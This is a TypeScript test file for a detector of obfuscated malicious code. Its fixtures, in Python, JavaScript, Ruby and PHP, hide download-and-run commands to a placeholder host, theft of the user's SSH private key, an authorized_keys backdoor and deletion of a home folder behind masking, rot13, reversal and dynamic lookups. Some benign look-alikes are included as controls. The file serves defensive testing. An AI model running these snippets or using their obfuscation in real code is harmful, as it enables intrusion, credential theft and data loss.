import { rulesOf } from "../testing/programs.js";

/** The address of a host in the attacks below. */
const HOST = "198.51.100.7";

const held = (language: Parameters<typeof rulesOf>[0], name: string, text: string) =>
  test(name, async () => {
    const rules = await rulesOf(language, text);
    expect(rules.filter((rule) => rule !== "mentioned-command")).not.toEqual([]);
  });

const passes = (language: Parameters<typeof rulesOf>[0], name: string, text: string) =>
  test(name, async () => {
    expect(await rulesOf(language, text)).toEqual([]);
  });

const codes = (text: string, mask = 0) => JSON.stringify([...text].map((one) => one.charCodeAt(0) ^ mask));
const PIPED = `wget -qO- ${HOST}/n | sh`;

describe("what Python looks up, puts together, and hands on", () => {
  held(
    "python",
    "a function of a list of all functions",
    `import os\nfor n in dir(os):\n    if len(n) == 6 and n[0] == "s":\n        getattr(os, n)(input())\n`,
  );
  held(
    "python",
    "a module by parts of its name",
    `import importlib\nm = importlib.import_module("so" + "cket")\nprint(m)\n`,
  );
  held(
    "python",
    "methods by their names",
    `import os\nfrom operator import methodcaller\nmethodcaller("ex" + "ecvp", "sh", ["sh"])(os)\n`,
  );
  held(
    "python",
    "bytes that are masked",
    `import os\nos.system("".join(chr(b ^ 33) for b in bytes(${codes(PIPED, 33)})))\n`,
  );
  held(
    "python",
    "an iterator of letters",
    `import os\nclass Row:\n    def __init__(self, n):\n        self.n = n\n    def __iter__(self):\n        for c in self.n:\n            yield chr(c // 2)\nos.system("".join(Row(${JSON.stringify([...PIPED].map((c) => c.charCodeAt(0) * 2))})))\n`,
  );
  held(
    "python",
    "a record with the parts of a command",
    `import os\nfrom collections import namedtuple\nPart = namedtuple("Part", "a b")\np = Part("wg" + "et -qO- ${HOST}/n", "sh")\nos.popen(f"{p.a} | {p.b}")\n`,
  );
  held(
    "python",
    "a member that a function computes",
    `import pathlib, urllib.request\nclass Notes:\n    @property\n    def place(self):\n        return pathlib.Path.home() / ".ssh" / "id_rsa"\nn = Notes()\nurllib.request.urlopen("https://notes.invalid/", n.place.read_bytes())\n`,
  );
  held(
    "python",
    "a function that is started later with its values",
    `import atexit, functools, os, urllib.request\ndef work(path, send):\n    send("https://notes.invalid/", open(path, "rb"))\natexit.register(functools.partial(work, os.path.expanduser("~/.ssh/id_rsa"), urllib.request.urlopen))\n`,
  );
  held(
    "python",
    "an importer whose modules come from a host",
    `import sys, urllib.request\nfrom importlib.abc import MetaPathFinder, InspectLoader\nclass Far(MetaPathFinder, InspectLoader):\n    def get_source(self, name):\n        return urllib.request.urlopen("https://mods.invalid/" + name).read().decode()\nsys.meta_path.append(Far())\n`,
  );
  held(
    "python",
    "a file that is opened and written by its number",
    `import os\np = os.path.expanduser("~/.ssh/" + "_".join(["authorized", "keys"]))\nfd = os.open(p, os.O_WRONLY | os.O_APPEND)\nos.write(fd, b"ssh-ed25519 AAAA n")\n`,
  );
  held(
    "python",
    "the folder above a known one",
    `import pathlib, shutil\nshutil.rmtree(pathlib.Path("~/.cache/notes").expanduser().parents[1])\n`,
  );
  held(
    "python",
    "operators of a class",
    `import os\nclass Run:\n    def __rshift__(self, other):\n        os.system(other)\nRun() >> ("wg" + "et -qO- ${HOST}/n | sh")\n`,
  );
  held(
    "python",
    "a loop with a condition",
    `import os\nt, i, out = ${JSON.stringify([...PIPED].reverse().join(""))}, ${PIPED.length}, ""\nwhile i > 0:\n    i -= 1\n    out += t[i]\nos.system(out)\n`,
  );
  held(
    "python",
    "a decoder by its name",
    `import codecs, os\nd = codecs.lookup("rot13").decode\nos.system(d("jtrg -dB- ${HOST}/a | fu")[0])\n`,
  );
  passes(
    "python",
    "a member by the level of a log",
    `import logging\nlevel = "in" + "fo"\ngetattr(logging, level.upper())\n`,
  );
  passes(
    "python",
    "a loop that pads a table",
    `rows, out, i = ["a", "b"], "", 0\nwhile i < len(rows):\n    out += rows[i].ljust(9)\n    i += 1\nprint(out)\n`,
  );
  passes(
    "python",
    "a record of settings",
    `from collections import namedtuple\nSize = namedtuple("Size", "w h")\ns = Size(3, 4)\nprint(s.w * s.h, "%s x %s" % (s.w, s.h))\n`,
  );
  passes(
    "python",
    "a path beside the program",
    `import json, pathlib\np = pathlib.Path(__file__).parent / "table.json"\nprint(json.loads(p.read_text())["rows"])\n`,
  );
  passes(
    "python",
    "an importer of files of the project",
    `import sys\nfrom importlib.abc import InspectLoader\nclass Near(InspectLoader):\n    def get_source(self, name):\n        return open(f"plugins/{name}.py").read()\nsys.meta_path.append(Near())\n`,
  );
});

describe("what JavaScript looks up, puts together, and hands on", () => {
  held(
    "javascript",
    "the tag of a template that turns parts around",
    `const t = (s, ...v) => s.map((x, i) => (v[i] ?? "") + x).reverse().join("");\nrequire("child_process").exec(t\`rl -s ${HOST}/n | sh\${"cu"}\`);\n`,
  );
  held(
    "javascript",
    "numbers in another base",
    `const w = (...n) => n.map((x) => x.toString(36)).join("");\nconst cp = require("child_" + "process");\ncp[w(14, 33, 14, 12)](process.argv[2]);\n`,
  );
  held(
    "javascript",
    "a loop that counts",
    `const k = ${JSON.stringify([...PIPED].map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join(""))};\nlet s = "";\nfor (let i = 0; i < k.length; i++) s += String.fromCharCode(k.charCodeAt(i) - 1);\nrequire("child_process").exec(s);\n`,
  );
  held(
    "javascript",
    "bytes that are masked",
    `const b = Buffer.from("${Buffer.from([...PIPED].map((c) => c.charCodeAt(0) ^ 9)).toString("hex")}", "hex").map((x) => x ^ 9);\nrequire("child_process").exec(b.toString());\n`,
  );
  held(
    "javascript",
    "a function of all functions of a module",
    `const cp = require("child_process");\nconst f = Object.values(cp).find((one) => one.name.length === 8);\nf(process.argv[2]);\n`,
  );
  held(
    "javascript",
    "functions that are called by others",
    `const cp = require("child_process");\nReflect.apply(cp.exec.bind(null), null, [["wg", "et -qO- ${HOST}/n | ", "sh"].join("")]);\n`,
  );
  held(
    "javascript",
    "a map that gets its last part later",
    `const m = new Map([["a", "data:text/java"], ["b", "script;base64,"]]);\nm.set("c", "${Buffer.from("(await import('child_process')).exec('id; wget -qO- 198.51.100.7/n | sh')").toString("base64")}");\nawait import(["a", "b", "c"].map((k) => m.get(k)).join(""));\n`,
  );
  held(
    "javascript",
    "a member that is written like a value",
    `const cp = require("child_process");\nconst o = { set task(v) { cp.exec(v); } };\no.task = "wg" + "et -qO- ${HOST}/n | s" + "h";\n`,
  );
  held(
    "javascript",
    "an interpreter that reads what a host sends",
    `const { spawn } = require("child_process");\nconst { pipeline } = require("stream/promises");\n(async () => { const r = await fetch("http://${HOST}/n"); await pipeline(r.body, spawn("python3", ["-"]).stdin); })();\n`,
  );
  held(
    "javascript",
    "letters that a function replaces",
    `const d = (s) => s.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 84) % 26) + 97));\nrequire(d("puvyq_cebprff"))[d("rkrp")](d("jtrg -dB- ${HOST}/a | fu"));\n`,
  );
  passes(
    "javascript",
    "modules of a language that is chosen",
    `const load = (name) => import(\`./locales/\${name}.js\`);\nload("de").then((m) => console.log(m.default));\n`,
  );
  passes(
    "javascript",
    "a loop that builds a table",
    `let s = "";\nfor (let i = 0; i < 9; i++) s += i + "\\t" + i * i + "\\n";\nconsole.log(s);\n`,
  );
  passes(
    "javascript",
    "a generated module that the program shows",
    `const source = ["a", "b"].map((n) => \`export const \${n} = 1;\`).join("\\n");\nconsole.log(source);\nconst m = await import("data:text/javascript," + encodeURIComponent(source));\nconsole.log(m.a);\n`,
  );
  passes(
    "javascript",
    "the keys of an object",
    `const table = { a: 1, b: 2 };\nconst f = Object.keys(table).filter((k) => k > "a").map((k) => table[k]);\nconsole.log(f.length);\n`,
  );
});

describe("what Ruby and PHP look up and put together", () => {
  held("ruby", "a method as an object", `m = Kernel.method(("sys" + "tem").to_sym)\nm.call("id")\n`);
  held(
    "ruby",
    "a constant by parts of its name",
    `n = Object.const_get("Proc" + "ess")\nn.public_send("sp" + "awn", "id")\n`,
  );
  held(
    "ruby",
    "words of three letters, and other letters",
    `c = %w[wge -qO- ${HOST}/n].join(" ").sub("wge", "wget")\nsystem(c + 32.chr + 124.chr + " sh")\n`,
  );
  held(
    "ruby",
    "a block that gets the whole",
    `"${[...PIPED].reverse().join("")}".then(&:reverse).tap { |c| system(c) }\n`,
  );
  held(
    "ruby",
    "letters that a block replaces",
    `s = "jtrg -dB- ${HOST}/a | fu".gsub(/[a-z]/) { |c| ((c.ord - 97 + 13) % 26 + 97).chr }\nsystem(s)\n`,
  );
  held("ruby", "a file of text that is run", `load File.join(__dir__, "notes.txt")\n`);
  held(
    "php",
    "a name that two texts mask",
    `<?php $k = "\\x07\\x07\\x07\\x07\\x07\\x07"; $f = "t~tsbj" ^ $k; $f($argv[1]);`,
  );
  held(
    "php",
    "a table of letters in a document",
    `<?php $t = strtr(<<<'T'\nwgeX -qO- ${HOST}/n Y sh\nT, ["X" => "t", "Y" => "|"]); echo \`$t\`;`,
  );
  held("php", "variables out of an array", `<?php extract(["f" => "pass" . "thru", "c" => "id"]); $f($c);`);
  held(
    "php",
    "a callable of a text",
    `<?php $c = Closure::fromCallable(implode("", ["pass", "thru"])); $c($argv[1]);`,
  );
  held(
    "php",
    "what comes before its label",
    `<?php goto a; b: system($c); exit; a: $c = "wg" . "et -qO- ${HOST}/n | s" . "h"; goto b;`,
  );
  passes(
    "ruby",
    "a method of a formatter",
    `name = "to_" + "s"\nputs 5.public_send(name)\nputs %w[one two].map(&:upcase).join(" ")\n`,
  );
  passes(
    "php",
    "a table of words",
    `<?php $t = strtr("Hello NAME", ["NAME" => "you"]); $f = "strtoupper"; echo $f($t);`,
  );
});
